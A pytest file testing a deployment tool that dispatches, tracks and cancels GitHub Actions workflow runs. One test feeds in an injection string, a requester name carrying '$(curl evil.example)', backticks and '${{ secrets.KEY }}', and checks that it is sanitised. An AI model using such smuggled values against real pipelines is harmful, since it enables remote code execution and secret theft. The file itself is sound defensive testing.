"""Deploying by a workflow of GitHub Actions: started once, found again, followed to its end."""

from __future__ import annotations

import json
from typing import Any, Dict, List

import pytest

from opsroom.deploys import Resolved
from opsroom.errors import Code, Failure, Refusal
from support.contracts.vendor import Vendor, body_of
from support.deploys.github import DEPLOYMENT, MARK, a_job, caught, deployer_at
from support.deploys.runs import Clock
from support.servers.http import Request
from support.vendors.github_deployments import GithubDeployments, job

LINK = "https://github.com/acme/web/actions/runs/4711"


def is_post(request: Request) -> bool:
    return request.method == "POST"


def dispatched(vendor: Vendor) -> List[Dict[str, Any]]:
    """The bodies of all requests to start something."""
    return [body_of(one) for one in vendor.sent("POST") if one.path.endswith("/dispatches")]


def v1(deployer: Any) -> Resolved:
    return deployer.resolve("v1.0.0")


# Versions


def test_a_tag_stands_for_itself(vendor: Vendor, github: GithubDeployments) -> None:
    github.branches["v1.0.0"] = github.commit("another")  # git means the tag, too
    found = deployer_at(vendor).resolve("v1.0.0")
    assert found == Resolved("v1.0.0", "v1.0.0", github.tags["v1.0.0"])


def test_a_branch_is_recorded_as_its_commit_and_started_by_name(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.branches["feature/x"] = commit = github.commit("x")
    deployer = deployer_at(vendor)
    found = deployer.resolve("feature/x")
    assert found == Resolved(commit[:12], "feature/x", commit)
    deployer.deploy(found, a_job())
    assert dispatched(vendor)[0]["ref"] == "feature/x"


def test_a_commit_is_refused_where_the_workflow_runs_on_the_version(
    vendor: Vendor, github: GithubDeployments
) -> None:
    commit = github.tags["v1.0.0"]
    error = caught(deployer_at(vendor).resolve, commit[:10])
    assert error.code is Code.NOT_POSSIBLE
    assert "on a branch or tag only" in error.message
    left = Resolved(commit[:12], commit[:12], commit)  # also one that was approved earlier
    assert caught(deployer_at(vendor).deploy, left, a_job()).code is Code.NOT_POSSIBLE
    assert dispatched(vendor) == []


def test_a_commit_is_an_input_where_the_workflow_runs_on_a_branch(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs += ["version", "commit"]
    inputs = {"version": "{version}", "commit": "{commit}"}
    deployer = deployer_at(vendor, ref="main", inputs=inputs)
    commit = github.commit("second")
    deployer.deploy(deployer.resolve(commit[:9]), a_job())
    sent = dispatched(vendor)[0]
    assert sent["ref"] == "main"
    assert sent["inputs"] == {"version": commit[:12], "commit": commit, "opsroom": MARK}


def test_an_unknown_version_is_answered_with_the_nearest(
    vendor: Vendor, github: GithubDeployments
) -> None:
    error = caught(deployer_at(vendor).resolve, "v1.0.1")
    assert (error.code, error.hint) == (Code.UNKNOWN_VERSION, "Did you mean v1.0.0?")
    assert caught(deployer_at(vendor).resolve, "zzz").facts["nearest"] == ["v1.0.0"]


def test_any_version_goes_where_versions_are_not_those_of_git(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs.append("tag")
    deployer = deployer_at(vendor, versions="any", ref="main", inputs={"tag": "{version}"})
    assert deployer.resolve("2026.11") == Resolved("2026.11", "2026.11")
    assert vendor.requests == []
    deployer.deploy(deployer.resolve("2026.11"), a_job())
    assert dispatched(vendor)[0]["inputs"]["tag"] == "2026.11"


# Starting and following


def test_a_workflow_is_started_once_and_followed_to_its_end(vendor: Vendor) -> None:
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert dispatched(vendor) == [
        {
            "ref": "v1.0.0",
            "inputs": {"environment": "uat", "opsroom": MARK},
            "return_run_details": True,
        }
    ]
    assert work.lines == ["GitHub run 4711 was started", "GitHub run 4711 is running"]
    assert (work.links, work.handles) == ([LINK], {"github": ""})


def test_a_slow_look_at_the_tag_leaves_the_start_its_time(
    vendor: Vendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    deployer = deployer_at(vendor)
    resolved, client = v1(deployer), deployer.service.client
    original = deployer.service.check_unmoved
    left: List[float] = []

    def slowly(ref: str, commit: str) -> None:
        original(ref, commit)
        client.deadline -= 9.0

    def dispatch(ref: str, inputs: Dict[str, str]) -> int:
        left.append(client.remaining)
        raise Refusal(Code.NOT_ACCEPTED, "Not now.")

    monkeypatch.setattr(deployer.service, "check_unmoved", slowly)
    monkeypatch.setattr(deployer.service.workflow, "dispatch", dispatch)
    caught(deployer.deploy, resolved, a_job())
    assert left[0] > 5


def test_the_requester_is_no_more_than_text_to_a_script(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs.append("by")
    deployer, work = deployer_at(vendor, inputs={"by": "{requester}"}), a_job()
    work.requester = "eve'; $(curl evil.example) `x` ${{ secrets.KEY }} {{ st2kv.x }}"
    deployer.deploy(v1(deployer), work)
    assert not set("'\"$`(){}|&<>\\;!*?#~%") & set(dispatched(vendor)[0]["inputs"]["by"])


def test_a_server_that_names_no_run_is_asked_which_one_it_is(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise = True
    deployer, work = deployer_at(vendor), a_job()
    github.run(title="deploy v0.9.0 [opsroom-fedcba9876543210]")
    deployer.deploy(v1(deployer), work)
    # The first was refused for a field that the server does not know, so that nothing was started.
    assert [one.get("return_run_details") for one in dispatched(vendor)] == [True, None]
    assert len(github.runs) == 2
    assert work.lines[-1] == "GitHub run 4712 is running"


def test_a_run_that_is_not_listed_yet_is_waited_for(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.enterprise, github.hidden_for = True, 30
    deployer, work = deployer_at(vendor), a_job()
    begun = clock.now
    deployer.deploy(v1(deployer), work)
    assert clock.now - begun > 60  # longer than a lost answer is looked for
    assert len(github.runs) == 1
    assert any("does not show in GitHub's list yet" in line for line in work.lines)


def test_a_run_that_never_shows_does_not_block_its_place_for_good(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.enterprise, github.hidden_for = True, 10_000
    deployer, work = deployer_at(vendor, time_limit="60s"), a_job()
    assert caught(deployer.deploy, v1(deployer), work).code is Code.TIMED_OUT
    clock.now += 900
    github.runs.clear()
    github.hidden_for = 0
    deployer.deploy(v1(deployer), a_job_after(work))
    assert len(github.runs) == 1


def test_a_run_that_is_not_found_at_once_is_not_taken_for_gone(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.hidden_for = 2
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert "GitHub run 4711 does not show on GitHub yet" in work.lines


def test_a_run_that_cannot_be_told_from_another_is_not_guessed(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise, github.run_name = True, False
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("in_progress", None)]
    error = caught(deployer.deploy, v1(deployer), work)
    assert error.code is Code.OUTCOME_UNKNOWN
    assert "may still go on" in error.message
    assert "run-name" in error.hint
    for _ in range(2):  # and nothing is started before it has ended
        assert caught(deployer.deploy, v1(deployer), a_job_after(work)).code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


def a_job_after(other: Any) -> Any:
    """A job at a place where an earlier one left something."""
    work = a_job()
    work.deployment = "fedcba9876543210"
    work.handles = dict(other.handles)
    return work


# Lost answers and dead runners


def test_a_lost_answer_is_found_by_the_title_of_the_run(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.hidden_for = 3
    deployer, work = deployer_at(vendor), a_job()
    vendor.after("unanswered", where=is_post)
    deployer.deploy(v1(deployer), work)
    assert len(dispatched(vendor)) == len(github.runs) == 1
    assert work.links == [LINK]


@pytest.mark.parametrize("correlation", ["opsroom", False])
@pytest.mark.parametrize("skew", [-1200.0, 1200.0])
def test_clocks_that_differ_do_not_hide_a_run(
    vendor: Vendor, github: GithubDeployments, clock: Clock, skew: float, correlation: Any
) -> None:
    github.now = lambda: clock.now + skew
    for number in range(150):
        github.run(title=f"older {number}", created_at="2026-01-01T00:00:00Z", status="completed")
    deployer = deployer_at(vendor, correlation=correlation)
    vendor.after("unanswered", where=is_post)
    deployer.deploy(v1(deployer), a_job())
    assert len(dispatched(vendor)) == 1


def test_a_run_is_found_among_many_newer_ones(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.run(title=f"deploy [{MARK}]")
    clock.now += 5000
    for number in range(520):
        github.run(title=f"newer {number}", status="completed")
    deployer, work = deployer_at(vendor), a_job()
    leave(work, "")
    deployer.deploy(v1(deployer), a_job_after(work))
    assert dispatched(vendor) == []
    assert len([one for one in vendor.requests if one.path.endswith("deploy.yml/runs")]) == 2


def test_too_many_runs_to_look_through_are_no_proof(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    for number in range(520):
        github.run(title=f"at once {number}", status="completed")
    deployer, work = deployer_at(vendor), a_job()
    leave(work, "")
    assert caught(deployer.deploy, v1(deployer), a_job_after(work)).code is Code.BUSY
    assert dispatched(vendor) == []


def test_a_run_of_much_later_is_not_taken_for_a_lost_one(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    leave(work, "")
    clock.now += 1000
    github.run(title="by hand", status="in_progress")
    deployer.deploy(v1(deployer), a_job_after(work))
    assert len(dispatched(vendor)) == 1


def test_a_run_by_hand_does_not_hide_ours_that_shows_later(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)
    vendor.after("unanswered", where=is_post)

    def note(line: str) -> None:
        if "was lost" in line:
            github.runs[4711]["created_at"] = "2000-01-01T00:00:00Z"
            github.run(title="by hand", status="in_progress")
        if len(vendor.requests) > 9:
            github.runs[4711]["created_at"] = github.runs[4712]["created_at"]

    work._on_note = note
    work._on_check = lambda: note("")
    deployer.deploy(resolved, work)
    assert work.links == [LINK]


def test_a_lost_answer_to_a_start_that_never_happened_is_said(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    from support.servers.http import Reply

    vendor.instead(Reply(drop="unanswered"), where=is_post)
    deployer, work = deployer_at(vendor), a_job()
    begun = clock.now
    error = caught(deployer.deploy, v1(deployer), work)
    assert "GitHub started nothing" in error.message
    assert clock.now - begun >= 60
    assert (github.runs, work.handles) == ({}, {"github": ""})


def test_a_lost_answer_is_not_guessed_where_a_run_shows_no_deployment(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.run_name = False
    vendor.after("unanswered", where=is_post)
    deployer, work = deployer_at(vendor), a_job()
    error = caught(deployer.deploy, v1(deployer), work)
    assert error.code is Code.OUTCOME_UNKNOWN
    assert "GitHub run 4711" in error.message
    assert json.loads(work.handles["github"])["run"] == ""


def test_a_run_that_was_left_is_followed_by_its_id(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("in_progress", None), ("completed", "success")]
    github.run(title=f"deploy [{MARK}]")
    leave(work, "4711/1")
    deployer.deploy(v1(deployer), a_job_after(work))
    assert dispatched(vendor) == []


def test_a_run_that_was_left_is_found_by_its_title(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    github.run(title=f"deploy [{MARK}]")
    leave(work, "")
    deployer.deploy(v1(deployer), a_job_after(work))
    assert dispatched(vendor) == []


def leave(work: Any, run: str, version: str = "v1.0.0") -> None:
    """What a runner leaves that dies after it asked for a run."""
    left = {"app": "web", "environment": "uat", "version": version, "commit": "", "asked": version}
    known = {"deployment": DEPLOYMENT, "requester": "bob", "since": 1_790_000_000.0, "run": run}
    work.handles["github"] = json.dumps({**left, **known, "rollback": False})


def test_another_version_waits_for_the_run_that_was_left(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("in_progress", None)]
    github.run(title=f"deploy [{MARK}]")
    leave(work, "4711/1", version="v0.9.0")
    error = caught(deployer.deploy, v1(deployer), work)
    assert (error.code, error.facts["link"]) == (Code.BUSY, LINK)
    assert dispatched(vendor) == []


def test_an_attempt_of_someone_else_is_not_cancelled(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("completed", "failure")]
    github.run(title=f"deploy [{MARK}]")
    github.run_again(4711, "in_progress")
    leave(work, "4711/1")
    assert deployer.cancel_left(work).text.startswith("GitHub run 4711 ended as failed")
    assert (github.cancels, work.handles["github"]) == ([], "")


def test_what_was_left_is_cancelled_for_someone_else(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    github.states = [("in_progress", None)]
    github.run(title=f"deploy [{MARK}]")
    leave(work, "")
    assert deployer.cancel_left(work).text == "GitHub run 4711 was cancelled."
    assert work.handles["github"] == ""


# Inputs


def test_a_tag_whose_workflow_lacks_the_input_is_started_without_and_that_is_said(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert [list(one["inputs"]) for one in dispatched(vendor)] == [
        ["environment", "opsroom"],
        ["environment"],
    ]
    assert "without its id: the workflow at v1.0.0 has no input opsroom" in work.lines[0]
    assert len(github.runs) == 1


def test_a_run_without_the_input_is_found_by_its_time_where_no_id_is_given(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.enterprise, github.inputs_on["v1.0.0"] = True, ["environment"]
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert len(github.runs) == 1
    assert work.lines[-1] == "GitHub run 4711 is running"


def test_another_unknown_input_is_refused_by_name(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = []
    deployer, work = deployer_at(vendor), a_job()
    error = caught(deployer.deploy, v1(deployer), work)
    assert isinstance(error, Refusal)
    assert "at v1.0.0 has no input environment, opsroom" in error.message
    assert (len(dispatched(vendor)), work.handles["github"]) == (1, "")


def test_a_lost_answer_to_the_start_without_the_input_is_not_repeated(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    github.states = [("in_progress", None)]
    deployer = deployer_at(vendor)
    vendor.after("unanswered", where=lambda one: is_post(one) and b"opsroom-" not in one.body)
    assert caught(deployer.deploy, v1(deployer), a_job()).code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"has_trigger": False}, "cannot be started by hand"),
        ({"missing_rights": ["actions"]}, "GitHub does not allow this on workflow deploy.yml"),
    ],
)
def test_what_github_does_not_start_leaves_nothing_behind(
    vendor: Vendor, github: GithubDeployments, change: Dict[str, Any], words: str
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)
    for name, value in change.items():
        setattr(github, name, value)
    error = caught(deployer.deploy, resolved, work)
    assert words in error.message
    assert (github.runs, work.handles) == ({}, {"github": ""})
    if "missing_rights" in change:
        assert "Actions (read and write)" in error.hint


# Where the workflow cannot be changed: one at a time


def test_without_correlation_the_only_new_run_is_it(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.run_name, github.inputs = False, ["environment"]
    github.run(created_at="2026-01-01T00:00:00Z")
    github.run(actor={"login": "someone-else"})
    deployer, work = deployer_at(vendor, correlation=False), a_job()
    vendor.after("unanswered", where=is_post)
    deployer.deploy(v1(deployer), work)
    assert work.links == ["https://github.com/acme/web/actions/runs/4713"]
    assert list(dispatched(vendor)[0]["inputs"]) == ["environment"]


def test_without_correlation_two_candidates_are_named_and_none_is_picked(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.inputs, github.states = ["environment"], [("in_progress", None)]
    deployer, work = deployer_at(vendor, correlation=False), a_job()
    vendor.after("unanswered", where=is_post)
    resolved = v1(deployer)
    other = {"done": False}

    def note(line: str) -> None:
        if not other["done"]:
            other["done"] = True
            github.run()

    work._on_note = note
    error = caught(deployer.deploy, resolved, work)
    assert error.code is Code.OUTCOME_UNKNOWN
    assert "4712 or 4711" in error.message
    assert len(dispatched(vendor)) == 1


def test_without_correlation_nothing_is_started_beside_a_recent_run(
    vendor: Vendor, github: GithubDeployments, clock: Clock
) -> None:
    github.inputs = ["environment"]
    github.run(status="completed", conclusion="success")
    deployer, work = deployer_at(vendor, correlation=False), a_job()
    error = caught(deployer.deploy, v1(deployer), work)
    assert (error.code, dispatched(vendor), work.handles["github"]) == (Code.BUSY, [], "")
    clock.now += 121
    deployer.deploy(v1(deployer), work)
    assert len(dispatched(vendor)) == 1


def test_an_app_without_a_login_takes_every_run_for_its_own(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.is_app, github.inputs = True, ["environment"]
    github.run(actor={"login": "someone-else"})
    deployer = deployer_at(vendor, correlation=False)
    assert caught(deployer.deploy, v1(deployer), a_job()).code is Code.BUSY


# What a run waits for, and how it ends


@pytest.mark.parametrize(
    ("gates", "words"),
    [
        (
            [{"environment": {"name": "production"}, "wait_timer": 0, "reviewers": [{}]}],
            "waits for approval of environment production on GitHub",
        ),
        (
            [{"environment": {"name": "uat"}, "wait_timer": 30, "reviewers": []}],
            "waits 30 min, as environment uat has it on GitHub",
        ),
        (
            [{"environment": {"name": "uat"}, "wait_timer": 0, "reviewers": []}],
            "waits for the protection rules of environment uat on GitHub",
        ),
        ([], "waits for the protection rules of an environment"),
    ],
)
def test_a_run_says_what_it_waits_for(
    vendor: Vendor, github: GithubDeployments, gates: List[Any], words: str
) -> None:
    github.states = [("queued", None), ("waiting", None), ("completed", "success")]
    github.gates = gates
    deployer, work = deployer_at(vendor), a_job()
    deployer.deploy(v1(deployer), work)
    assert work.lines[-1] == f"GitHub run 4711 {words}"


def test_a_run_that_nobody_approves_in_time_says_so(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.states = [("waiting", None)]
    github.gates = [{"environment": {"name": "uat"}, "wait_timer": 0, "reviewers": [{}]}]
    deployer = deployer_at(vendor, time_limit="60s")
    error = caught(deployer.deploy, v1(deployer), a_job())
    assert error.code is Code.TIMED_OUT
    assert "waits for approval of environment uat on GitHub" in error.message
    assert github.cancels == ["cancel"]


@pytest.mark.parametrize(
    ("enterprise", "words"),
    [
        (False, "is queued behind 3 others"),
        (True, "waits for another run of its concurrency group"),
    ],
)
def test_a_run_behind_others_says_so(
    vendor: Vendor, github: GithubDeployments, enterprise: bool, words: str
) -> None:
    github.states = [("pending", None), ("pending", None), ("completed", "success")]
    github.position = 3
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)
    github.enterprise = enterprise
    deployer.deploy(resolved, work)
    assert work.lines[-1] == f"GitHub run 4711 {words}"


@pytest.mark.parametrize(
    ("conclusion", "words"),
    [
        ("failure", "failed: job 'deploy' at step 'Push image'"),
        ("timed_out", "failed: took longer than GitHub or the workflow allows"),
        ("startup_failure", "failed: could not start"),
        ("skipped", "failed: ran none of its jobs"),
        ("stale", "failed: was given up by GitHub"),
        ("neutral", "failed: ended as neutral"),
        ("brand_new", "failed: ended as brand_new"),
        ("cancelled", "was cancelled at GitHub: by someone there, or by a newer run of its"),
    ],
)
def test_a_run_that_does_not_succeed_fails_the_deployment(
    vendor: Vendor, github: GithubDeployments, conclusion: str, words: str
) -> None:
    github.states = [("in_progress", None), ("completed", conclusion)]
    github.jobs = [job("test"), job("deploy", "failure", "Push image"), job("note", "cancelled")]
    deployer, work = deployer_at(vendor), a_job()
    error = caught(deployer.deploy, v1(deployer), work)
    assert (error.code, error.facts["link"]) == (Code.DEPLOY_FAILED, LINK)
    assert f"GitHub run 4711 {words}" in error.message
    assert work.handles == {"github": ""}


@pytest.mark.parametrize(
    ("state", "comment", "words"),
    [
        ("rejected", "Not before Monday.", "bob-gh rejected it on GitHub: Not before Monday."),
        ("rejected", "", "bob-gh rejected it on GitHub."),
        ("approved", "", "job 'deploy'."),
    ],
)
def test_a_run_that_someone_rejected_says_who(
    vendor: Vendor, github: GithubDeployments, state: str, comment: str, words: str
) -> None:
    github.states = [("waiting", None), ("completed", "failure")]
    github.jobs = [job("build"), {**job("deploy", None), "conclusion": "failure"}]
    github.approvals = [{"state": state, "user": {"login": "bob-gh"}, "comment": comment}]
    deployer = deployer_at(vendor)
    error = caught(deployer.deploy, v1(deployer), a_job())
    assert error.message == f"GitHub run 4711 failed: {words}"


def test_a_run_that_a_newer_one_of_its_group_replaced_says_so(
    vendor: Vendor, github: GithubDeployments
) -> None:
    github.states = [("pending", None), ("completed", "cancelled")]
    github.jobs = [job("deploy", None)]
    deployer = deployer_at(vendor)
    error = caught(deployer.deploy, v1(deployer), a_job())
    assert "was cancelled at GitHub: none of its jobs had begun" in error.message
    assert "concurrency group" in error.message


@pytest.mark.parametrize(
    ("jobs", "words"),
    [
        ([job("build"), job("deploy (uat)", "skipped")], "its job 'deploy (uat)' was skipped"),
        ([job("build"), job("deploy (uat)", "neutral")], "its job 'deploy (uat)' ended as neutral"),
        ([job("build"), job("ship")], "has no job 'deploy (uat)': it has build and ship"),
        ([job("build", "failure"), job("deploy (uat)")], ""),
    ],
)
def test_the_job_that_counts_must_have_succeeded(
    vendor: Vendor, github: GithubDeployments, jobs: List[Any], words: str
) -> None:
    github.jobs = jobs
    deployer = deployer_at(vendor, job="deploy ({environment})")
    if not words:
        deployer.deploy(v1(deployer), a_job())
        return
    error = caught(deployer.deploy, v1(deployer), a_job())
    assert error.code is Code.DEPLOY_FAILED
    assert words in error.message


def test_a_later_attempt_does_not_change_what_became_of_ours(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)

    def note(line: str) -> None:
        if line.endswith("was started"):
            github.runs[4711].update(status="completed", conclusion="failure")
            github.run_again(4711, "completed", "success")

    work._on_note = note
    error = caught(deployer.deploy, resolved, work)
    assert error.code is Code.DEPLOY_FAILED


def test_a_tag_that_was_moved_since_it_was_looked_up_is_not_deployed(
    vendor: Vendor, github: GithubDeployments
) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved = v1(deployer)
    github.tags["v1.0.0"] = github.commit("second")
    assert caught(deployer.deploy, resolved, work).code is Code.CHANGED_MEANWHILE
    assert (dispatched(vendor), work.handles["github"]) == ([], "")


def test_a_run_of_another_commit_is_no_success(vendor: Vendor, github: GithubDeployments) -> None:
    deployer, work = deployer_at(vendor), a_job()
    resolved, moved = v1(deployer), github.commit("second")
    work._on_note = lambda line: github.runs[4711].update(head_sha=moved)
    error = caught(deployer.deploy, resolved, work)
    assert f"ran commit {moved[:12]} and not {resolved.commit[:12]}" in error.message


# Cancelling


def stopped(deployer: Any, work: Any) -> Failure:
    """The end of a deployment that someone cancels while it is followed."""
    from support.deploys.jobs import cancelled

    resolved = deployer.resolve("v1.0.0")
    work._on_check = lambda: cancelled() if work.checks > 5 else None
    error = caught(deployer.deploy, resolved, work)
    assert isinstance(error, Failure)
    return error


@pytest.fixture
def running(github: GithubDeployments) -> GithubDeployments:
    github.states = [("in_progress", None)]
    return github


def test_a_run_is_cancelled(vendor: Vendor, running: GithubDeployments) -> None:
    work = a_job()
    error = stopped(deployer_at(vendor), work)
    assert "GitHub run 4711 was cancelled." in error.message
    assert (running.cancels, work.handles["github"]) == (["cancel"], "")


def test_a_run_that_goes_on_is_cancelled_by_force_after_a_while(
    vendor: Vendor, running: GithubDeployments, clock: Clock
) -> None:
    running.after_cancel = None
    begun = clock.now
    error = stopped(deployer_at(vendor), a_job())
    assert "was cancelled" in error.message
    assert running.cancels == ["cancel", "force-cancel"]
    assert 20 <= clock.now - begun <= 40


def test_a_run_is_not_cancelled_by_force_where_that_is_off(
    vendor: Vendor, running: GithubDeployments
) -> None:
    running.after_cancel = None
    error = stopped(deployer_at(vendor, force_cancel_after=False), a_job())
    assert "still runs after 30 s" in error.message
    assert running.cancels == ["cancel"]


def test_a_run_that_is_not_queued_yet_is_asked_again_to_end(
    vendor: Vendor, running: GithubDeployments
) -> None:
    running.not_queued_for = 3
    error = stopped(deployer_at(vendor), a_job())
    assert "was cancelled" in error.message
    assert running.cancels == ["cancel"]


def test_a_run_that_ended_before_it_was_cancelled_is_said_to_have(
    vendor: Vendor, running: GithubDeployments
) -> None:
    running.states = [("in_progress", None), ("in_progress", None), ("completed", "success")]
    deployer, work = deployer_at(vendor), a_job()
    original = deployer.service.workflow.cancel

    def cancel(run: int, force: bool = False) -> bool:
        running.runs[run].update(status="completed", conclusion="success")
        return bool(original(run, force))

    deployer.service.workflow.cancel = cancel
    assert "had already succeeded" in stopped(deployer, work).message


def test_a_run_that_may_not_be_cancelled_is_said_to_go_on(
    vendor: Vendor, running: GithubDeployments
) -> None:
    work = a_job()
    work._on_note = lambda line: running.missing_rights.append("actions")
    deployer = deployer_at(vendor)
    error = stopped(deployer, work)
    assert "may still go on" in error.message
    assert json.loads(work.handles["github"])["run"].startswith("4711/1/")


def test_a_run_that_does_not_show_yet_cannot_be_cancelled(
    vendor: Vendor, running: GithubDeployments
) -> None:
    running.enterprise, running.hidden_for = True, 1000
    work = a_job()
    error = stopped(deployer_at(vendor), work)
    assert "could not be cancelled (it does not show in GitHub's list yet)" in error.message
    assert running.cancels == []
    running.hidden_for = 0  # and it is found again when it does
    assert deployer_at(vendor).cancel_left(work).text == "GitHub run 4711 was cancelled."


def test_a_run_that_survives_force_is_said_to_go_on(
    vendor: Vendor, running: GithubDeployments
) -> None:
    running.after_cancel = running.after_force = None
    error = stopped(deployer_at(vendor), a_job())
    assert "still runs after 30 s" in error.message
    assert error.facts["left_running"] == "GitHub run 4711"
    assert running.cancels == ["cancel", "force-cancel"]
